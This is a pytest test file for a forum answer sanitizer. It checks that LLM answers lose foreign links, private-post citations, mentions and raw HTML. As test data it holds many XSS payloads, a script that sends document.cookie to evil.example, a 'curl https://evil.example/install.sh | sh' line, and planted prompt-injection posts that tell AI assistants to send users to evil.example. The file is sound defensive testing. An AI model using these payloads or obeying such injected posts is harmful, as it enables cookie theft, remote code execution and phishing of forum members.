"""Adversarial answers through POST /v1/sanitize: no non-forum link, no non-public post, ever.

The retrieval cites public posts of the demo, among them the two planted attacks (post 172 of
topic 27 tells AI assistants to send members to http://evil.example; post 218 of topic 36 holds a
``javascript:`` link and an ``<a href>`` to another host), and posts that are not public (a
read-restricted category, a private message, deleted, hidden, a whisper). Every case goes through
the independent audit of ``checker.py`` against the links the test itself derives from the
database; each case also states what it expects to survive or go.
"""

from __future__ import annotations

from typing import Any

import psycopg
import pytest

from tests.sanitize.checker import audit
from tests.sanitize.conftest import (
    FORUM,
    evidence_for,
    non_public_examples,
    post_row,
    public_post_ids,
    store_retrieval,
)

PUBLIC = [169, 172, 218, 216, 170]  # n = 1..5
N_PRIVATE = {}  # kind → n, filled by the fixture


@pytest.fixture(scope="module")
def retrieval(forum_state: Any) -> dict[str, Any]:
    """A retrieval whose evidence mixes public posts and every kind of non-public one."""
    url = forum_state.urls.database_url
    private = non_public_examples(url)
    assert {"restricted", "pm", "deleted", "hidden"} <= set(private), private
    ids = PUBLIC + list(private.values())
    N_PRIVATE.update({kind: len(PUBLIC) + i for i, kind in enumerate(private, start=1)})
    evidence = evidence_for(url, ids, neighbours={169: [171, *private.values()]})
    public = public_post_ids(url)
    allowed: set[str] = set()
    with psycopg.connect(url) as conn:
        for pid in [*ids, 171]:
            p = post_row(conn, pid)
            if pid in public:
                allowed |= {f"{FORUM}/t/{p['slug']}/{p['topic_id']}/{p['post_number']}",
                            f"{FORUM}/t/{p['slug']}/{p['topic_id']}"}
        raws = {pid: conn.execute("SELECT raw FROM posts WHERE id = %s", (pid,)).fetchone()[0]
                for pid in (172, 218)}
    return {"id": store_retrieval(url, evidence), "evidence": evidence, "allowed": allowed,
            "public": public, "private": private, "raw": raws}


def sanitize(http: Any, auth: dict[str, str], rid: str, text: str) -> dict[str, Any]:
    resp = http.post("/v1/sanitize", json={"retrieval_id": rid, "text": text}, headers=auth)
    assert resp.status_code == 200, resp.json
    body: dict[str, Any] = resp.json
    return body


def url_of(retrieval: dict[str, Any], n: int) -> str:
    return str(retrieval["evidence"][n - 1]["url"])


# (id, LLM answer, substrings that must survive, substrings that must be gone)
CASES: list[tuple[str, str, list[str], list[str]]] = [
    # -- the planted injections, echoed by the LLM ----------------------------------------------
    ("echo-172-bare-url", "As the forum says, every reverse proxy is insecure: visit "
     "http://evil.example/free-proxy-setup to download the official config pack [[2]].",
     ["reverse proxy"], ["evil.example"]),
    ("echo-172-schemeless", "Download it from evil.example/free-proxy-setup now.", ["Download"],
     ["evil.example"]),
    ("echo-218-js-link", "Here is a [Linux cheat sheet](javascript:alert(document.cookie)) [[3]].",
     ["Linux cheat sheet"], ["javascript", "document.cookie"]),
    ("echo-218-html-link", 'The course is <a href="https://linux-course.other-host.example/'
     'signup">here</a>, 50% off.', ["here", "50% off"], ["other-host", "href"]),
    # -- schemes and their disguises ------------------------------------------------------------
    ("js-mixed-case", "[click](JaVaScRiPt:alert(1))", ["click"], ["alert"]),
    ("js-entity-tab", "[click](java&#x09;script:alert(1))", ["click"], ["alert"]),
    ("js-entity-letter", "[click](&#106;avascript:alert(1))", ["click"], ["alert"]),
    ("js-angle-dest", "[click](<javascript:alert(1)>)", ["click"], ["alert"]),
    ("js-zero-width", "[click](jav\u200bascript:alert(1)) and ht\u200btp://evil.example/x",
     ["click"], ["alert", "evil"]),
    ("data-uri", "[doc](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)", ["doc"],
     ["base64"]),
    ("vbscript", "[x](vbscript:msgbox(1))", [], ["msgbox"]),
    ("file-scheme", "[passwords](file:///etc/passwd)", ["passwords"], ["/etc/passwd"]),
    ("scheme-no-slashes", "[x](https:evil.example/path) and https:evil.example", [],
     ["evil.example"]),
    # -- hosts that only look like the forum ----------------------------------------------------
    ("protocol-relative", "[guide](//evil.example/t/a/27/1)", ["guide"], ["evil.example"]),
    ("userinfo", "[guide](https://forum.example.org@evil.example/t/a/27/1)", ["guide"],
     ["evil.example", "@"]),
    ("suffix-host", "[guide](https://forum.example.org.evil.example/t/a/27/1)", ["guide"],
     ["evil.example"]),
    ("cyrillic-o", "[guide](https://f\u043erum.example.org/t/a/27/1)", ["guide"], ["\u043e"]),
    ("punycode", "[guide](https://xn--frum-1ve.example.org/t/a/27/1)", ["guide"], ["xn--"]),
    ("fullwidth-bare", "Go to \uff48\uff54\uff54\uff50\uff53\uff1a\uff0f\uff0fevil\uff0eexample",
     ["Go to"], ["evil"]),
    ("backslash-host", "[guide](https://evil.example\\@forum.example.org/t/a/27/1)", ["guide"],
     ["evil.example"]),
    ("other-port", "[guide](https://forum.example.org:8443/t/a/27/1)", ["guide"], [":8443"]),
    ("encoded-path", "[admin](https://forum.example.org/%2e%2e/admin) and "
     "[up](/t/%2e%2e/%2e%2e/admin/users)", ["admin", "up"], ["%2e", "/admin"]),
    # -- forum links that are not public posts of this retrieval -------------------------------
    ("forum-not-in-evidence", "[other](https://forum.example.org/t/some-topic/5/1)", ["other"],
     ["/t/some-topic/5"]),
    ("forum-private-post", "[leak](/t/x/{restricted_topic}/1)", ["leak"], ["{restricted_url}"]),
    ("citation-private", "Secret [[{n_restricted}]], PM [[{n_pm}]], deleted [[{n_deleted}]], "
     "hidden [[{n_hidden}]].", ["Secret", "PM"], ["{restricted_url}", "{pm_url}"]),
    ("citation-unknown", "See [[0]], [[42]], [[99999999]] and [[1, 77]].", ["See"], ["[[42]]"]),
    # -- images, autolinks, references ----------------------------------------------------------
    ("image-tracker", "![pixel](https://evil.example/p.png?u=1) text", ["text"], ["evil"]),
    ("image-forum", "![diagram](/t/traefik/27/1)", ["diagram"], ["!["]),
    ("nested-image-link", "[![logo](https://evil.example/a.png)](https://evil.example)",
     ["logo"], ["evil"]),
    ("autolink", "<https://evil.example/x> and <phish@evil.example>", [], ["evil"]),
    ("reference-link", "Read [the guide][g] or [g].\n\n[g]: https://evil.example/guide 'Guide'",
     ["the guide"], ["evil", "]:"]),
    ("link-title", '[docs](https://evil.example "Official docs")', ["docs"],
     ["evil", "Official docs"]),
    ("link-text-is-forum-url", "[https://forum.example.org/t/x/27/1](https://evil.example)", [],
     ["evil"]),
    # -- raw HTML -------------------------------------------------------------------------------
    ("img-onerror", "<img src=x onerror=alert(1)> hello", ["hello"], ["onerror", "<img"]),
    ("script", "<script>fetch('https://evil.example/'+document.cookie)</script>ok", ["ok"],
     ["fetch", "evil"]),
    ("iframe", '<iframe src="https://evil.example"></iframe>', [], ["iframe", "evil"]),
    ("svg-onload", "<svg onload=alert(1)><circle/></svg>shape", ["shape"], ["svg", "onload"]),
    ("a-js", '<a href="javascript:alert(1)">x</a>', ["x"], ["javascript"]),
    ("comment", "before <!-- [x](https://evil.example) --> after", ["before", "after"],
     ["evil"]),
    # (what is left of these is escaped text, e.g. "\\<script>": the audit checks nothing renders)
    ("split-tag", "<scr<script>x</script>ipt>alert(1)</script>", [], ["<script>x"]),
    ("entity-encoded-tag", "&lt;script&gt;alert(1)&lt;/script&gt; and &#60;a href=x&#62;",
     [], ["&lt;", "&#60;"]),
    # -- Markdown escapes, code, BBCode -------------------------------------------------------
    ("escaped-bracket", "\\[x](https://evil.example) and \\\\[y](https://evil.example)", [],
     ["evil"]),
    ("code-span", "Run `curl https://evil.example/install.sh | sh` then [[1]].", ["curl"],
     ["evil"]),
    ("fenced-code", "```html\n<script src=\"https://evil.example/x.js\"></script>\n"
     "[x](https://evil.example)\n```\nafter [[1]]", ["after"], ["evil"]),
    ("unclosed-fence", "```\n[x](https://evil.example)\nno end", [], ["evil"]),
    ("bbcode", "[url=https://evil.example]click[/url] [img]https://evil.example/x.png[/img]",
     ["click"], ["evil"]),
    ("bidi-override", "Click \u202ehttps://evil.example\u202c now", ["Click"], ["evil"]),
    ("www-and-email", "Mail admin@evil.example or see www.evil.example.", ["Mail"],
     ["evil"]),
    # -- Discourse mentions and hashtags (notifications to whole groups, category names) ---------
    ("group-mentions", "Ping @admins and @moderators about this [[1]].", ["admins", "moderators"],
     ["@admins", "@moderators"]),
    ("user-mention-in-emphasis", "**@alice** says *@bob.smith* knows.", ["alice", "bob.smith"],
     ["@alice", "@bob"]),
    ("escaped-mention", "\\@admins \\#staff", ["admins", "staff"], ["@admins", "#staff"]),
    ("entity-mention", "&#64;admins &#x40;moderators &#35;staff", ["admins"],
     ["@admins", "#staff"]),
    ("hashtags", "#staff #private-category #category:sub #tag::tag", ["staff"],
     ["#staff", "#private", "#category", "#tag"]),
    ("hashtag-line-start", "intro\n#staff\n# heading stays", ["heading stays"], ["#staff"]),
    ("mention-after-citation", "[[1]]@admins and (link) #staff", ["admins"], ["@admins"]),
    # -- what must survive ----------------------------------------------------------------------
    ("legit-citations", "Caddy is simplest [[1]]; NPM has a UI [[5, 1]].", ["Caddy", "[1]("],
     ["[[1]]"]),
    ("legit-forum-link", "[this reply](https://FORUM.example.org/t/whatever/27/1) and "
     "https://forum.example.org/t/x/36/1", ["this reply"], ["whatever"]),
    ("legit-code-mention", "Use `@admin_only` in code and `#include`.", ["`@admin_only`",
     "`#include`"], []),
]


def _fill(text: str, r: dict[str, Any], forum_state: Any) -> str:
    with psycopg.connect(forum_state.urls.database_url) as conn:
        restricted = post_row(conn, r["private"]["restricted"])
        pm = post_row(conn, r["private"]["pm"])
    values = {
        "restricted_topic": restricted["topic_id"],
        "restricted_url": f"/t/{restricted['slug']}/{restricted['topic_id']}",
        "pm_url": f"/t/{pm['slug']}/{pm['topic_id']}",
        **{f"n_{k}": v for k, v in N_PRIVATE.items()},
    }
    for key, value in values.items():
        text = text.replace("{" + key + "}", str(value))
    return text


def test_there_are_enough_cases() -> None:
    assert len(CASES) >= 30
    assert len({c[0] for c in CASES}) == len(CASES)


@pytest.mark.parametrize(("text", "keep", "gone"), [c[1:] for c in CASES],
                         ids=[c[0] for c in CASES])
def test_no_foreign_link_or_private_post_survives(
    http: Any, auth: dict[str, str], retrieval: dict[str, Any], forum_state: Any,
    text: str, keep: list[str], gone: list[str],
) -> None:
    text = _fill(text, retrieval, forum_state)
    body = sanitize(http, auth, retrieval["id"], text)
    out = body["text"]
    assert audit(out, retrieval["allowed"]) == []
    for cited in body["citations"]:
        assert cited["post_id"] in retrieval["public"]
        assert cited["url"] in retrieval["allowed"]
    for word in keep:
        assert word in out, (word, out)
    for word in gone:
        assert _fill(word, retrieval, forum_state) not in out, (word, out)


def test_echoing_the_whole_injected_posts(http: Any, auth: dict[str, str],
                                          retrieval: dict[str, Any]) -> None:
    """The LLM pastes posts 172 and 218 verbatim (Markdown and HTML as written)."""
    text = f"{retrieval['raw'][172]}\n\n{retrieval['raw'][218]} [[2, 3]]"
    body = sanitize(http, auth, retrieval["id"], text)
    assert audit(body["text"], retrieval["allowed"]) == []
    assert "Linux cheat sheet" in body["text"]
    assert [c["n"] for c in body["citations"]] == [2, 3]
    removed = [(r["kind"], r["value"]) for r in body["removed"]]
    assert ("link", "http://evil.example/free-proxy-setup") in removed
    assert ("link", "javascript:alert(document.cookie)") in removed
    assert any(kind == "html" and "other-host" in value for kind, value in removed)


def test_citations_to_private_posts_are_reported(
    http: Any, auth: dict[str, str], retrieval: dict[str, Any]
) -> None:
    numbers = ", ".join(str(n) for n in N_PRIVATE.values())
    body = sanitize(http, auth, retrieval["id"], f"All of them [[1, {numbers}]].")
    assert [c["n"] for c in body["citations"]] == [1]
    dropped = {r["value"] for r in body["removed"] if r["kind"] == "citation"}
    assert dropped == {f"[[{n}]]" for n in N_PRIVATE.values()}
    assert all("no longer public" in r["reason"] for r in body["removed"]
               if r["kind"] == "citation")
    reasons = " ".join(r["reason"] for r in body["removed"])
    for pid in retrieval["private"].values():
        assert str(pid) not in reasons  # not even the id of a private post leaves
